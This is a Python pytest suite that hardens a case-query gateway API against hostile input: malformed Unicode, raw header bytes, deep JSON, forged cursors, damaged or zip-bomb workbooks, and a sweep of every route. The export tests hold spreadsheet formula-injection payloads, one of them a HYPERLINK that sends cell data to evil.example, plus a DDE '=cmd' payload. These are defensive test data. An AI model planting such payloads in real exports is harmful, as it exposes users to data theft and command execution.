"""Hostile input: every route answers a clear JSON 4xx and changes nothing, never a 500.

The targeted tests pin one finding each (lone surrogates, raw bytes in headers, deep nesting,
huge numbers, forged cursors, damaged workbooks and multipart bodies, formula injection in
the export); the sweep at the end throws a set of hostile inputs at every route of the live
application, as each role allowed to call it.
"""

from __future__ import annotations

import ast
import asyncio
import base64
import io
import json
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aiohttp
import pytest
from openpyxl import Workbook, load_workbook

from gateway import api_spreadsheets, queries, spreadsheets
from gateway.auth import allowed_roles
from gateway.errors import PayloadTooLarge, ValidationFailed
from gateway.identifiers import InvalidCaseNumber, parse_case_number
from gateway.queries import sql
from mocks.population import sample_ids
from tests.conftest import CASE, Gateway, batch_body

NOT_ALLOWED = "contains characters that are not allowed"
UNREADABLE = "is not a readable .xlsx workbook"
DEEP = b"[" * 100_000 + b"]" * 100_000
SOME_UUID = "6f1c2b1e-8d1a-4c1e-9a53-1b2c3d4e5f60"
GatewayFactory = Callable[..., Any]


def b64(text: str | bytes) -> str:
    raw = text.encode() if isinstance(text, str) else text
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def problem_of(body: dict[str, Any]) -> list[tuple[Any, str, str]]:
    return [(p["row"], p["field"], p["problem"]) for p in body["error"]["problems"]]


async def stored_batches(gateway: Gateway) -> int:
    async with gateway.pool.acquire() as conn:
        return int(await conn.fetchval("SELECT count(*) FROM batches"))


async def post_json_text(
    gateway: Gateway, path: str, text: str | bytes, role: str = "officer"
) -> aiohttp.ClientResponse:
    """POST a body as given: json.dumps escapes a lone surrogate as \\ud800, as a client may."""
    team = "team-a" if role == "officer" else None
    headers = {**await gateway.headers(role, team), "Content-Type": "application/json"}
    data = text.encode() if isinstance(text, str) else text
    return await gateway.client.post(path, data=data, headers=headers)


async def raw_http(gateway: Gateway, request: bytes) -> tuple[int, dict[str, str], bytes]:
    """One request written byte for byte (headers a client library would refuse to send)."""
    server = gateway.client.server
    reader, writer = await asyncio.open_connection(server.host, server.port)
    try:
        writer.write(request)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
    finally:
        writer.close()
    head, _, body = answer.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return int(lines[0].split()[1]), headers, body


@pytest.fixture
async def api(gateway_factory: GatewayFactory) -> Gateway:
    """The API without the dispatcher, for tests that never need a batch run."""
    return await gateway_factory(dispatch=False)


# ---------------------------------------------------------------- F6: text fields


def _with(**changes: Any) -> dict[str, Any]:
    body = batch_body(n=1)
    subject = changes.pop("subject", None)
    if subject:
        body["subjects"] = [{**body["subjects"][0], **subject}]
    return {**body, **changes}


@pytest.mark.parametrize(
    ("body", "row", "field"),
    [
        (_with(reason="\ud800x"), None, "reason"),  # lone surrogate
        (_with(reason="查询\u200b财产"), None, "reason"),  # zero-width space (Cf)
        (_with(requery_reason="\udfff"), None, "requery_reason"),
        (_with(subject={"name": "\ud800x"}), 0, "name"),
        (_with(subject={"name": "张\u202e三"}), 0, "name"),  # right-to-left override (Cf)
        (_with(subject={"name": "张\x85三"}), 0, "name"),  # NEL (Cc)
        (_with(subject={"name": "张\x7f"}), 0, "name"),  # DEL (Cc)
        (_with(subject={"id_number": sample_ids(1)[0][1] + "\ud800"}), 0, "id_number"),
        (_with(subject={"id_number": "\u200b" + sample_ids(1)[0][1]}), 0, "id_number"),
        (_with(agencies=["household", "\ud800"]), None, "agencies"),
        (_with(agencies=["house\u200bhold"]), None, "agencies"),
    ],
)
async def test_text_with_characters_that_are_not_allowed_is_named_and_nothing_stored(
    api: Gateway, body: dict[str, Any], row: int | None, field: str
) -> None:
    response = await post_json_text(api, "/v1/batches", json.dumps(body))
    assert response.status == 422, await response.text()
    assert problem_of(await response.json()) == [(row, field, NOT_ALLOWED)]
    assert await stored_batches(api) == 0


# ---------------------------------------------------------------- F7, F15: raw header bytes


async def test_a_token_that_is_not_printable_ascii_is_401(api: Gateway) -> None:
    status, _headers, body = await raw_http(
        api,
        b"GET /v1/batches HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \xff\xfe\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert status == 401, body
    assert json.loads(body)["error"]["code"] == "unauthorized"


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        (b"\xff\xfe\xfd", False),  # not UTF-8
        (b"abc def", False),
        (b"id\xc2\x85", False),  # NEL, UTF-8 encoded (control bytes are aiohttp's 400)
        (b"x" * 65, False),
        (b"caller-7f3a_2.1", True),
    ],
)
async def test_an_odd_request_id_is_replaced_not_echoed(
    api: Gateway, sent: bytes, kept: bool
) -> None:
    status, headers, body = await raw_http(
        api,
        b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-Id: " + sent + b"\r\n"
        b"Connection: close\r\n\r\n",
    )
    assert status == 200, body
    if kept:
        assert headers["x-request-id"] == sent.decode()
    else:
        assert len(headers["x-request-id"]) == 32
        assert all(c in "0123456789abcdef" for c in headers["x-request-id"])


# ---------------------------------------------------------------- F8: deep nesting


@pytest.mark.parametrize(
    ("role", "path"),
    [
        ("officer", "/v1/batches"),
        ("admin", "/v1/teams"),
        ("admin", "/v1/officers"),
        ("commander", f"/v1/batches/{SOME_UUID}/approve"),
    ],
)
async def test_deeply_nested_json_is_400(api: Gateway, role: str, path: str) -> None:
    response = await post_json_text(api, path, DEEP, role)
    assert response.status == 400, await response.text()
    assert "nested too deeply" in (await response.json())["error"]["message"]


# ---------------------------------------------------------------- F9: huge case serials


def test_a_case_serial_number_over_nine_digits_is_too_long() -> None:
    assert parse_case_number("（2022）吉03执123456789号").number == 123456789
    for serial in ("1234567890", "9" * 5000):
        with pytest.raises(InvalidCaseNumber, match="serial number is too long"):
            parse_case_number(f"(2022)吉03执{serial}号")


async def test_a_case_number_with_thousands_of_digits_is_422(api: Gateway) -> None:
    body = batch_body(n=1, case="(2022)吉03执" + "9" * 5000 + "号")
    response = await post_json_text(api, "/v1/batches", json.dumps(body))
    assert response.status == 422, await response.text()
    assert problem_of(await response.json()) == [(None, "case_number", "serial number is too long")]


# ---------------------------------------------------------------- F10, F11, F32: cursors, limits


@pytest.mark.parametrize(
    "cursor",
    [b64("9" * 30), b64(str(2**63)), b64("0"), b64("-5"), b64("١٢"), b64(" 12"), "%%%"],
)
async def test_a_results_cursor_out_of_range_is_400(api: Gateway, cursor: str) -> None:
    batch = await api.submit(batch_body(n=1, agencies=["household"]))
    response = await api.client.get(
        f"/v1/batches/{batch['id']}/results?cursor={cursor}", headers=await api.headers()
    )
    assert response.status == 400, await response.text()
    assert (await response.json())["error"]["field"] == "cursor"


TIME_CURSORS = [
    "0001-01-01T00:00:00+14:00",  # before year 1 in UTC
    "9999-12-31T23:59:59-14:00",  # after year 9999 in UTC
    "1200-01-01T00:00:00+00:00",
    "2024-01-01T00:00:00",  # no offset
    "not a time",
]


@pytest.mark.parametrize("stamp", TIME_CURSORS)
async def test_a_batch_list_cursor_out_of_range_is_400(api: Gateway, stamp: str) -> None:
    response = await api.client.get(
        f"/v1/batches?cursor={b64(f'{stamp}|{SOME_UUID}')}", headers=await api.headers()
    )
    assert response.status == 400, await response.text()
    assert (await response.json())["error"]["field"] == "cursor"


@pytest.mark.parametrize("stamp", TIME_CURSORS)
async def test_an_alert_cursor_out_of_range_is_400(api: Gateway, stamp: str) -> None:
    for ident in ("1", "9" * 30):
        response = await api.client.get(
            f"/v1/alerts?cursor={b64(f'{stamp}|{ident}')}",
            headers=await api.headers("commander", None),
        )
        assert response.status == 400, await response.text()
        assert (await response.json())["error"]["field"] == "cursor"


#: cursors no list wrote: not base64, not UTF-8, a NUL
BAD_CURSORS = ["%%%", b64(b"\xff\xfe"), b64("a\x00b")]
#: ... and for lists keyed by an id (and time): ids past a bigint
BAD_ID_CURSORS = [*BAD_CURSORS, b64("9" * 30), b64(f"seq:{'9' * 30}")]
LISTS = [
    ("officer", "/v1/batches", BAD_ID_CURSORS),
    ("officer", "/v1/batches/{batch}/results", BAD_ID_CURSORS),
    ("admin", "/v1/officers", BAD_CURSORS),  # keyed by name
    ("admin", "/v1/cases", BAD_CURSORS),  # keyed by case number
    ("commander", "/v1/alerts", BAD_ID_CURSORS),
    ("auditor", "/v1/audit", BAD_ID_CURSORS),
]


async def test_every_list_reads_limit_and_cursor_alike(api: Gateway) -> None:
    """One parser for each: a 5,000-digit limit (int() refuses it), Unicode digits, numbers
    out of range, and an id past a bigint are all refused naming the parameter."""
    batch = await api.submit(batch_body(n=1, agencies=["household"]))
    failures = []
    for role, template, bad_cursors in LISTS:
        path = template.format(batch=batch["id"])
        headers = await api.headers(role, "team-a" if role == "officer" else None)
        for value in ("9" * 5000, "²", "١٢", "0", "501", "-1", " 5", "5 ", "1e3", ""):
            response = await api.client.get(f"{path}?limit={quote(value)}", headers=headers)
            body = await response.json()
            if (
                response.status != 422
                or "error" not in body
                or [p["field"] for p in body["error"]["problems"]] != ["limit"]
            ):
                failures.append((path, "limit", value[:10], response.status, body))
        for cursor in bad_cursors:
            response = await api.client.get(f"{path}?cursor={cursor}", headers=headers)
            body = await response.json()
            error = body.get("error", {})
            field = error["problems"][0]["field"] if response.status == 422 else error.get("field")
            if response.status not in (400, 422) or field != "cursor":
                failures.append((path, "cursor", cursor, response.status, body))
        response = await api.client.get(path, headers=headers)
        if response.status != 200:
            failures.append((path, "(none)", "", response.status, await response.text()))
    assert failures == []


# ---------------------------------------------------------------- F12: CSV cells


async def test_a_csv_team_cell_with_a_nul_names_its_row_and_line(api: Gateway) -> None:
    csv = "case_number,team\n（2022）吉03执1号,执行一组\n（2022）吉03执2号,a\x00b\n"
    response = await api.client.post(
        "/v1/cases/import", data=csv.encode(), headers=await api.headers("admin", None)
    )
    assert response.status == 422, await response.text()
    problems = (await response.json())["error"]["problems"]
    assert [(p["row"], p["line"], p["field"]) for p in problems] == [(1, 3, "team")]
    async with api.pool.acquire() as conn:
        assert await conn.fetchval("SELECT count(*) FROM cases") == 0


# ---------------------------------------------------------------- spreadsheets


def workbook(rows: list[list[Any]], header: list[str] | None = None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(header or ["姓名", "身份证号"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The same workbook with each part passed through ``change`` (None drops the part)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = change(info.filename, source.read(info))
            if content is not None:
                target.writestr(info, content)
    return out.getvalue()


def people(n: int, seed: int = 5) -> list[list[Any]]:
    return [[name, id_number] for name, id_number in sample_ids(n, seed=seed)]


GOOD_BOOK = workbook(people(3))
SHEET = "xl/worksheets/sheet1.xml"


def _cut(name: str, part: bytes, which: str) -> bytes | None:
    if name != which:
        return part
    return part[: len(part) // 2]


DAMAGED = {
    "truncated sheet": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, SHEET)),
    "broken workbook.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/workbook.xml")),
    "broken styles.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/styles.xml")),
    "no sheet part": rezip(GOOD_BOOK, lambda n, p: None if n == SHEET else p),
    "sheet not XML": rezip(GOOD_BOOK, lambda n, p: b"\x00\x01garbage" if n == SHEET else p),
    "huge dimension": rezip(
        GOOD_BOOK,
        lambda n, p: (
            p.replace(b'<dimension ref="A1:B4"', b'<dimension ref="A1:ZZZZZ9"') if n == SHEET else p
        ),
    ),
    "bad number": rezip(
        GOOD_BOOK,
        lambda n, p: (
            p.replace(b"<sheetData>", b'<sheetData><row r="9"><c r="A9"><v>x</v></c></row>')
            if n == SHEET
            else p
        ),
    ),
    "not a zip": b"PK\x03\x04 not really",
}


def upload_form(data: bytes, **fields: str) -> aiohttp.FormData:
    form = aiohttp.FormData()
    form.add_field("case_number", fields.get("case_number", CASE))
    form.add_field("reason", fields.get("reason", "批量查询"))
    form.add_field("file", data, filename="debtors.xlsx")
    return form


@pytest.mark.parametrize("damage", sorted(DAMAGED))
async def test_a_damaged_workbook_is_422_naming_the_file(api: Gateway, damage: str) -> None:
    response = await api.client.post(
        "/v1/batches/upload", data=upload_form(DAMAGED[damage]), headers=await api.headers()
    )
    assert response.status == 422, await response.text()
    assert problem_of(await response.json()) == [(None, "file", UNREADABLE)]
    assert await stored_batches(api) == 0


def multipart(part_headers: bytes, content: bytes = b"x") -> bytes:
    return (
        b"--B\r\n" + part_headers + b"\r\n\r\n" + content + b"\r\n"
        b'--B\r\nContent-Disposition: form-data; name="reason"\r\n\r\nr\r\n--B--\r\n'
    )


NAME = b'Content-Disposition: form-data; name="case_number"'


@pytest.mark.parametrize(
    "body",
    [
        multipart(NAME + b"\r\nContent-Type: text/plain; charset=foo"),
        multipart(NAME + b"\r\nContent-Transfer-Encoding: foo"),
        multipart(NAME + b"\r\n\x00\x01garbage without a colon"),
        multipart(b'Content-Disposition: form-data; name="case_number\r\n: \r\n'),
        multipart(NAME + b"\r\nContent-Type: text/plain; charset=utf-8", b"\xff\xfe"),
        b"--B\r\n" + NAME + b"\r\n\r\nnever closed",
    ],
)
async def test_an_unreadable_multipart_body_is_400(api: Gateway, body: bytes) -> None:
    headers = {**await api.headers(), "Content-Type": "multipart/form-data; boundary=B"}
    response = await api.client.post("/v1/batches/upload", data=body, headers=headers)
    assert 400 <= response.status < 500, await response.text()
    assert (await response.json())["error"]["code"]
    assert await stored_batches(api) == 0


def test_reading_stops_after_one_row_more_than_a_batch_may_hold() -> None:
    with pytest.raises(PayloadTooLarge) as caught:
        spreadsheets.read_subjects(workbook(people(50)), max_subjects=3)
    assert caught.value.details == {"field": "subjects", "limit": 3}
    assert len(spreadsheets.read_subjects(workbook(people(3)), max_subjects=3).subjects) == 3


async def test_an_upload_over_the_subject_limit_is_413(gateway_factory: GatewayFactory) -> None:
    gateway = await gateway_factory(dispatch=False, max_subjects=3)
    response = await gateway.client.post(
        "/v1/batches/upload",
        data=upload_form(workbook(people(10))),
        headers=await gateway.headers(),
    )
    assert response.status == 413, await response.text()
    error = (await response.json())["error"]
    assert (error["field"], error["limit"]) == ("subjects", 3)


def zip_bomb(unpacked: int) -> bytes:
    """A valid workbook whose sheet part unpacks to ``unpacked`` bytes (a comment of spaces)."""

    def inflate(name: str, part: bytes) -> bytes:
        if name != SHEET:
            return part
        head, _, tail = part.partition(b"<sheetData>")
        return head + b"<!--" + b" " * unpacked + b"--><sheetData>" + tail

    return rezip(GOOD_BOOK, inflate)


async def test_a_zip_bomb_is_refused_before_it_is_parsed(gateway_factory: GatewayFactory) -> None:
    gateway = await gateway_factory(dispatch=False, max_body_bytes=100_000)
    bomb = zip_bomb(3_000_000)  # 30 times the body limit once unpacked
    assert len(bomb) < 100_000
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(bomb), headers=await gateway.headers()
    )
    assert response.status == 413, await response.text()
    assert (await response.json())["error"]["field"] == "file"
    # the same content within the limit is read
    small = zip_bomb(500_000)
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(small), headers=await gateway.headers()
    )
    assert response.status == 202, await response.text()


def _record_thread(
    monkeypatch: pytest.MonkeyPatch, module: Any, name: str, seen: list[Any]
) -> None:
    original = getattr(module, name)

    def recorded(*args: Any, **kwargs: Any) -> Any:
        seen.append((threading.get_ident(), args))
        return original(*args, **kwargs)

    monkeypatch.setattr(module, name, recorded)


async def test_workbooks_are_read_and_written_off_the_event_loop(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    loop_thread = threading.get_ident()
    parsed: list[Any] = []
    written: list[Any] = []
    _record_thread(monkeypatch, spreadsheets, "load_workbook", parsed)
    _record_thread(monkeypatch, api_spreadsheets, "write_results", written)
    response = await gateway.client.post(
        "/v1/batches/upload", data=upload_form(GOOD_BOOK), headers=await gateway.headers()
    )
    assert response.status == 202, await response.text()
    batch = await response.json()
    await gateway.wait_finished(batch["id"])
    export = await gateway.client.get(
        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
    )
    assert export.status == 200
    assert [thread for thread, _ in parsed] != [] and loop_thread not in {t for t, _ in parsed}
    assert len(written) == 1 and written[0][0] != loop_thread
    # the photos' base64 was dropped as each page was read, not only when writing
    _batch, items = written[0][1]
    household = [i for i in items if i["agency"] == "household" and i["status"] == "found"]
    assert household and all("photo" in i["data"] for i in household)
    assert "data_base64" not in json.dumps(items)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
]


async def test_the_export_holds_no_formula_whatever_the_names(gateway: Gateway) -> None:
    ids = [i for _, i in sample_ids(len(FORMULAS), seed=41)]
    body = batch_body(list(zip(FORMULAS, ids, strict=True)), agencies=["household", "vehicle"])
    batch = await gateway.submit(body)
    await gateway.wait_finished(batch["id"])
    export = await gateway.client.get(
        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
    )
    assert export.status == 200
    data = await export.read()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read(SHEET)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = {c.value for c in cells if c.column == 2}
    assert set(FORMULAS) <= names  # kept as the text the officer typed


def test_control_characters_from_an_agency_do_not_break_the_export() -> None:
    item = {
        "subject": {"row": 0, "name": "张三", "id_number": "X"},
        "agency": "household",
        "status": "found",
        "data": {"sex": "男\x01", "birth_date": "1970-01-01", "address": "=cmd|'/c calc'!A1"},
        "error": None,
        "attempts": 1,
        "completed_at": "2024-01-01T00:00:00+00:00",
    }
    batch = {"case_number": CASE, "id": SOME_UUID, "status": "done"}
    data = spreadsheets.write_results(batch, [item])
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# ---------------------------------------------------------------- F33: SQL lives in .sql files

#: modules that may still hold SQL inline: migrations bootstrap the schema the named queries
#: need; dispatcher.py's is being moved by a change of its own
_INLINE_SQL_ALLOWED = {"migrations.py", "dispatcher.py"}
_QUERY_METHODS = {"execute", "executemany", "fetch", "fetchrow", "fetchval"}


def test_handlers_run_named_queries_only() -> None:
    inline = []
    for path in sorted(Path(queries.__file__).parent.glob("*.py")):
        if path.name in _INLINE_SQL_ALLOWED:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Call)
                and isinstance(node.func, ast.Attribute)
                and node.func.attr in _QUERY_METHODS
                and node.args
                and isinstance(node.args[0], ast.Constant | ast.JoinedStr)
            ):
                inline.append(f"{path.name}:{node.lineno}")
    assert inline == []
    for name in ("readiness_probe", "audit_page_custom_plans", "notify"):
        assert sql(name)


# ---------------------------------------------------------------- the sweep

#: bodies that are not what any route takes
BODIES: list[bytes] = [
    b"",
    b"   ",
    b"{not json",
    b"\xff\xfe\x00{",
    DEEP,
    b'{"a": ' * 50_000 + b"1" + b"}" * 50_000,
    b"null",
    b"[]",
    b'"\\ud800"',
    b'{"\\ud800": 1}',
    b"9" * 5000,
    b"1e999999",
    b"NaN",
    b'{"a": 1, "a": 2}',
    json.dumps({"x" * 1000: 1}).encode(),
]

#: values every field is given in turn (wrong types, huge numbers, hostile text)
VALUES: list[Any] = [
    None,
    True,
    0,
    -1,
    1.5,
    10**30,
    float("inf"),
    "",
    " ",
    "\ud800x",
    "a\x00b",
    "\u200b",
    "x" * 100_000,
    "9" * 5000,
    [],
    {},
    [[[[[]]]]],
    {"a": {"b": None}},
]

#: a valid body for each route that takes JSON; each field of it is replaced by each value
TEMPLATES: dict[tuple[str, str], dict[str, Any]] = {
    ("POST", "/v1/batches"): {**batch_body(n=2), "requery_reason": "复查"},
    ("POST", "/v1/teams"): {"name": "sweep-team"},
    ("POST", "/v1/officers"): {"name": "sweep-officer", "role": "officer", "team": "team-a"},
    ("POST", "/v1/officers/{name}/tokens"): {"expires_in_days": 1},
    ("POST", "/v1/cases"): {"case_number": CASE, "team": "team-a"},
    ("POST", "/v1/batches/{batch_id}/approve"): {"note": "ok"},
    ("POST", "/v1/batches/{batch_id}/reject"): {"note": "no"},
}

#: query parameters every GET route is given, with values for each
QUERY: dict[str, list[str]] = {
    "limit": ["0", "-1", "501", "²", "١٢", "１２", "9" * 5000, "", "1e3", "\x00"],
    "cursor": [
        "%%%",
        "",
        "=" * 5,
        "a" * 5000,
        b64("9" * 30),
        b64("0"),
        b64(f"seq:{'9' * 30}"),
        b64(f"0001-01-01T00:00:00+14:00|{SOME_UUID}"),
        b64(f"9999-12-31T23:59:59-14:00|{SOME_UUID}"),
        b64("9999-12-31T23:59:59-14:00|1"),
        b64("2024-01-01T00:00:00|1"),
        b64(b"\xff\xfe"),
        b64("a\x00b"),
    ],
    "time": [
        "0001-01-01",
        "0001-01-01T00:00:00+14:00",
        "9999-12-31T23:59:59-14:00",
        "٢٠٢٤-٠١-٠١",
        "2024-13-01",
        "2024-01-01T00:00:00+99:00",
        "",
        "x" * 1000,
    ],
    "text": ["", "\x00", "x" * 5000, "１２", "\u200b", "9" * 5000],
}
TIME_NAMES = ("from", "to", "since", "until")
TEXT_NAMES = ("kind", "team", "officer", "batch_id", "batch", "subject", "case", "expect_head")

#: path parameter values (already percent-encoded where needed)
PATH_VALUES = [
    "not-a-uuid",
    "%00",
    "%FF%FE",
    "%ED%A0%80",  # a surrogate, UTF-8 encoded: not valid UTF-8
    "x" * 3000,
    "%EF%BC%91%EF%BC%92",  # full-width 12
    "99999999999999999999",
    "-1",
    "0",
    "00000000-0000-0000-0000-000000000000",
    "%2F",
    "..",
    "a%20b",
    "%5Cu0000",
]


class Sweep:
    """The live routes, a token for each role, and a record of every bad answer."""

    def __init__(self, gateway: Gateway) -> None:
        self.gateway = gateway
        self.failures: list[tuple[Any, ...]] = []
        self.requests = 0

    async def setup(self) -> None:
        gateway = self.gateway
        self.batch = await gateway.submit(batch_body(n=2, agencies=["household"]))
        # a target officer whose tokens the sweep may revoke freely
        await gateway.token("officer", "team-b", officer="sweep-target")
        self.routes = []
        for route in gateway.client.app.router.routes():
            if route.method == "HEAD" or route.resource is None:
                continue
            roles = allowed_roles(route.handler) or ("public",)
            self.routes.append((route.method, route.resource.canonical, roles))
        assert len(self.routes) >= 25  # every module's routes are there

    def path(self, template: str, **values: str) -> str:
        defaults = {
            "batch_id": self.batch["id"],
            "name": "sweep-target",
            "token_id": "999999999",
        }
        path = template
        for name, default in defaults.items():
            path = path.replace("{" + name + "}", values.get(name, default))
        return path

    async def headers(self, role: str) -> dict[str, str]:
        if role == "public":
            return {}
        return await self.gateway.headers(role, "team-a" if role == "officer" else None)

    async def check(
        self, method: str, path: str, role: str, label: str, **kwargs: Any
    ) -> tuple[int, Any]:
        self.requests += 1
        headers = {**await self.headers(role), **kwargs.pop("headers", {})}
        response = await self.gateway.client.request(method, path, headers=headers, **kwargs)
        raw = await response.read()
        status = response.status
        if status >= 500 and not (path == "/readyz" and status == 503):
            self.failures.append((method, path[:80], role, label, status, raw[:300]))
            return status, None
        if status >= 400:
            try:
                error = json.loads(raw)["error"]
                assert error["code"] and error["message"]
            except (ValueError, KeyError, TypeError, AssertionError):
                self.failures.append((method, path[:80], role, label, status, raw[:300]))
        return status, raw


@pytest.fixture
async def sweep(gateway: Gateway) -> Sweep:
    sweep = Sweep(gateway)
    await sweep.setup()
    return sweep


async def test_sweep_bodies(sweep: Sweep) -> None:
    for method, template, roles in sweep.routes:
        if method not in ("POST", "PUT", "PATCH", "DELETE"):
            continue
        for role in roles:
            for body in BODIES:
                await sweep.check(
                    method,
                    sweep.path(template),
                    role,
                    f"body {body[:20]!r}",
                    data=body,
                    headers={"Content-Type": "application/json"},
                )
    assert sweep.failures == []
    assert sweep.requests >= 100


def _mutations(template: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    out = []
    for field in template:
        for value in VALUES:
            out.append((f"{field}={value!r:.30}", {**template, field: value}))
    if "subjects" in template:
        first = template["subjects"][0]
        for field in first:
            for value in VALUES:
                subjects = [{**first, field: value}, *template["subjects"][1:]]
                out.append((f"subjects.{field}={value!r:.30}", {**template, "subjects": subjects}))
        for value in VALUES:
            out.append((f"subjects[0]={value!r:.30}", {**template, "subjects": [value]}))
    return out


async def test_sweep_field_types(sweep: Sweep) -> None:
    """Every field of every JSON body given every wrong type and hostile value."""
    covered = set()
    for method, template, roles in sweep.routes:
        if (method, template) not in TEMPLATES:
            continue
        covered.add((method, template))
        for role in roles:
            for label, body in _mutations(TEMPLATES[(method, template)]):
                # json.dumps: surrogates escaped, inf written as Infinity (Python reads it)
                data = json.dumps(body).encode()
                await sweep.check(
                    method,
                    sweep.path(template),
                    role,
                    label,
                    data=data,
                    headers={"Content-Type": "application/json"},
                )
    assert covered == set(TEMPLATES)
    assert sweep.failures == []
    assert sweep.requests >= 100


async def test_sweep_query_parameters(sweep: Sweep) -> None:
    for method, template, roles in sweep.routes:
        if method != "GET":
            continue
        path = sweep.path(template)
        role = roles[0]
        for name, values in (
            ("limit", QUERY["limit"]),
            ("cursor", QUERY["cursor"]),
            *((name, QUERY["time"]) for name in TIME_NAMES),
            *((name, QUERY["text"]) for name in TEXT_NAMES),
        ):
            for value in values:
                query = f"{name}={quote(value, safe='')}"
                await sweep.check(method, f"{path}?{query}", role, query[:40])
            await sweep.check(method, f"{path}?{name}=%FF%FE", role, f"{name}=%FF%FE")
        await sweep.check(method, f"{path}?limit=1&limit=2&cursor=a&cursor=b", role, "repeats")
    assert sweep.failures == []
    assert sweep.requests >= 100


async def test_sweep_path_parameters(sweep: Sweep) -> None:
    for method, template, roles in sweep.routes:
        if "{" not in template:
            continue
        for role in roles:
            for value in PATH_VALUES:
                path = sweep.path(template, batch_id=value, name=value, token_id=value)
                await sweep.check(method, path, role, f"path {value[:20]}")
    assert sweep.failures == []
    assert sweep.requests >= 100


async def test_sweep_headers_and_roles(sweep: Sweep) -> None:
    """Every route with no token, a garbage token, raw bytes in headers, and every role."""
    gateway = sweep.gateway
    odd_headers = [
        {},
        {"Authorization": "Bearer"},
        {"Authorization": "Bearer gw_" + "x" * 5000},
        {"Authorization": "Basic dXNlcjpwYXNz"},
        {"Idempotency-Key": "x" * 500},
        {"Idempotency-Key": "é"},
        {"Content-Type": "multipart/form-data"},  # no boundary
        {"Content-Type": "multipart/form-data; boundary=" + "b" * 100},
        {"Content-Type": "application/json; charset=foo"},
    ]
    for method, template, roles in sweep.routes:
        path = sweep.path(template)
        for headers in odd_headers:
            role = roles[0] if "Authorization" not in headers else "public"
            await sweep.check(method, path, role, f"headers {headers}"[:40], headers=headers)
        for role in ("officer", "commander", "auditor", "admin"):
            await sweep.check(method, path, role, f"as {role}", data=b"{}")
        for raw in (
            b"Authorization: Bearer \xff\xfe",
            b"X-Request-Id: \xff\xfe",
            b"Idempotency-Key: \xff\xfe",
            b"Authorization: Bearer gw_\xc3\xa9",
        ):
            status, _, body = await raw_http(
                gateway,
                method.encode()
                + b" "
                + path.encode()
                + b" HTTP/1.1\r\nHost: x\r\n"
                + raw
                + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            )
            sweep.requests += 1
            if status >= 500 and path != "/readyz":
                sweep.failures.append((method, path, "raw", raw, status, body[:300]))
    assert sweep.failures == []
    assert sweep.requests >= 100


# ---------------------------------------------------------------- unit level


def test_damage_found_while_rows_are_read_is_the_same_422() -> None:
    """openpyxl parses a worksheet lazily: a cut-off part is found only while rows are read."""
    with pytest.raises(ValidationFailed) as caught:
        spreadsheets.read_subjects(DAMAGED["truncated sheet"])
    assert caught.value.problems[0]["problem"] == UNREADABLE
